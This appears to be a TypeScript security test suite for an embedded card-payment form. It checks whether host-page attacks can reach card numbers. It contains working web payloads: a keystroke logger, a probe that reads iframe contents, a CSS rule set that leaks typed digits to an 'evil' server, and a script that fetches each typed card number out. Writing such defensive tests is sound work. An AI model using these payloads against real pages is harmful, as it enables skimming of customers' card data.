/** What the page does without a message: looks, styles, listens for keys, takes scripts away, draws a form of its own. */
import { cards, fillCard } from '../../testing/index.ts'
import { attack, expect, type Field } from './attack.ts'
import { script, shopPage } from './pages.ts'
import type { Weakness } from './site.ts'

/** Keys, as every script of a page may hear them. */
const keyLogger = script(() => {
  window.loot = []
  for (const kind of ['keydown', 'input', 'paste', 'beforeinput'])
    addEventListener(kind, (event) => window.loot.push((event as KeyboardEvent).key ?? event.type), true)
})

/** Every way to a form's document that a page has; what each gives, or the name of its error. */
function look(): Record<string, unknown> {
  const iframe = (window.card?.shadowRoot ?? document).querySelector('iframe')
  const ways: Record<string, () => unknown> = {
    frames: () => window.frames.length,
    contentDocument: () => iframe?.contentDocument?.querySelector('input')?.value ?? null,
    document: () => iframe?.contentWindow?.document.querySelector('input')?.value,
    name: () => (iframe?.contentWindow as unknown as { Object: unknown } | null)?.Object !== undefined,
    location: () => String(iframe?.contentWindow?.location.href),
  }
  return Object.fromEntries(
    Object.entries(ways).map(([name, read]) => {
      try {
        return [name, read()]
      } catch (error) {
        return [name, (error as Error).name]
      }
    }),
  )
}

attack('The page looks into the form and listens to the keyboard', {
  had: 'Every script of the page, before and after ours',
  defended: [
    'the document is closed in every way, it cannot be reached by number, and no key is heard',
    async (field) => {
      const { page, site } = field
      await page.goto(site.page(shopPage(field, { before: keyLogger })))
      const result = page.evaluate((wanted) => window.pay(wanted), await field.ask())
      await fillCard(page, cards.visa, { submit: false })
      await field.number(await field.frame()).press('Backspace')
      await page.keyboard.type('2')
      expect(await page.evaluate(look)).toEqual({
        frames: 0,
        contentDocument: null,
        document: 'SecurityError',
        name: 'SecurityError',
        location: 'SecurityError',
      })
      expect(await page.evaluate(() => window.loot)).toEqual([])
      await fillCard(page, cards.visa)
      expect(await result).toMatchObject({ ok: true })
    },
  ],
  undefended: [
    'a form of the same origin as the page is read by each way, and fields on the page give every key away',
    async ({ page, site }) => {
      const form = site.page('<body><input></body>')
      await page.goto(site.page(`<body>${keyLogger}<input id="own"><iframe src="${form}"></iframe></body>`))
      await page.frameLocator('iframe').locator('input').fill('4242')
      expect(await page.evaluate(look)).toEqual({
        frames: 1,
        contentDocument: '4242',
        document: '4242',
        name: true,
        location: form,
      })
      await page.locator('#own').pressSequentially('42')
      expect(await page.evaluate(() => window.loot)).toEqual(expect.arrayContaining(['4', '2']))
    },
  ],
})

/** Styles that hide, and that tell a server what a field holds. */
const styles = (server: string): string => `<style>
  input, form, * { letter-spacing: 9px !important; }
  ${[...'0123456789'].map((digit) => `input[value^="${digit}"] { background: url("${server}/leak?${digit}") }`).join(' ')}
</style>`

const leaked = ({ site }: Field): boolean => site.got.some(({ path }) => path === '/leak?4')

attack('Styles of the page reach for the fields', {
  had: 'Any style sheet on the page',
  defended: [
    'no rule crosses into the frame, and no field reflects its value to where a rule could see it',
    async (field) => {
      const { page, site } = field
      await page.goto(site.page(styles(site.evil) + shopPage(field)))
      const result = page.evaluate((wanted) => window.pay(wanted), await field.ask())
      await fillCard(page, cards.visa, { submit: false })
      const frame = await field.frame()
      const seen = await field.number(frame).evaluate((input) => ({
        spacing: getComputedStyle(input).letterSpacing,
        attribute: input.getAttribute('value'),
      }))
      expect(seen.spacing).not.toBe('9px')
      expect(seen.attribute).toBeNull()
      await fillCard(page, cards.visa)
      expect(await result).toMatchObject({ ok: true })
      expect(leaked(field)).toBe(false)
    },
  ],
  undefended: [
    'fields on the page that reflect their value tell the attacker digits, without a script',
    async (field) => {
      const { page, site } = field
      await page.goto(
        site.page(
          `${styles(site.evil)}<body><input>${script(() => {
            const input = document.querySelector('input')
            input?.addEventListener('input', () => input.setAttribute('value', input.value))
          })}</body>`,
        ),
      )
      await page.locator('input').fill(cards.visa.number)
      expect(await page.locator('input').evaluate((input) => getComputedStyle(input).letterSpacing)).toBe('9px')
      await expect.poll(() => leaked(field)).toBe(true)
    },
  ],
})

/** The form's document in an iframe that runs no script: only the browser's own form is left. What it sends. */
async function withoutScripts(field: Field, weakness: Weakness): Promise<string[]> {
  const { page, site } = field
  const heard: string[] = []
  const form = field.form(await site.weak({ ...weakness, heard: (line) => heard.push(line) }))
  await page.goto(site.page(`<body><iframe sandbox="allow-forms allow-same-origin" src="${form}"></iframe></body>`))
  await field.frame()
  heard.length = 0
  // By keyboard alone: drivers find nothing in a document without scripts.
  await page.keyboard.press('Tab')
  // The keyboard crosses into another process, and what is typed before it is there is lost.
  await page.waitForFunction(() => document.activeElement?.tagName === 'IFRAME')
  await page.waitForTimeout(200)
  await page.keyboard.type(cards.visa.number)
  await page.keyboard.press('Enter')
  await page.waitForTimeout(300)
  return heard.filter((line) => line.includes(' /f/'))
}

attack('The page takes the scripts away and leaves the customer with the bare form', {
  had: 'The page, and the address of the form',
  defended: [
    'a form without its script sends nothing: its button is off, and its policy forbids any target',
    async (field) => {
      expect(await withoutScripts(field, {})).toEqual([])
    },
  ],
  undefended: [
    'a plain form sends the number as it was typed',
    async (field) => {
      const weakness: Weakness = {
        page: (headers) => headers.delete('content-security-policy'),
        html: (text) => text.replace('type="submit" disabled', 'type="submit"'),
      }
      expect((await withoutScripts(field, weakness)).join()).toContain(cards.visa.number)
    },
  ],
})

/** SECURITY.md names this one: what a page can always do. */
const ownForm = `<body><h1>Harbour Rooms</h1><form><label>Card number <input id="own" autocomplete="cc-number"></label></form>${script(
  () => {
    addEventListener('input', ({ target }) => void fetch(`/own-form?${(target as HTMLInputElement).value}`))
  },
)}`

async function typesIntoOwnForm({ page, site }: Field, address: string): Promise<string> {
  await page.goto(address)
  await page.locator('#own').fill(cards.visa.number)
  const got = (): string => site.got.map(({ path }) => path).join()
  // An engine that types key by key sends as many words, in no order.
  await expect.poll(got).toContain(cards.visa.number)
  return got()
}

attack('The page draws a form of its own', {
  had: 'The page',
  defended: [
    'nothing prevents it: a page can always draw a form of its own and have what is typed there; the capture does not move',
    async (field) => {
      const asked = await field.ask()
      const before = await field.state(asked)
      const page = ownForm + shopPage(field).replace('<body>', '')
      expect(await typesIntoOwnForm(field, field.site.page(page))).toContain(cards.visa.number)
      expect(await field.state(asked)).toEqual(before)
    },
  ],
  undefended: [
    'the same, and no sign of it anywhere',
    async (field) => {
      expect(await typesIntoOwnForm(field, field.site.page(`${ownForm}</body>`))).toContain(cards.visa.number)
    },
  ],
})
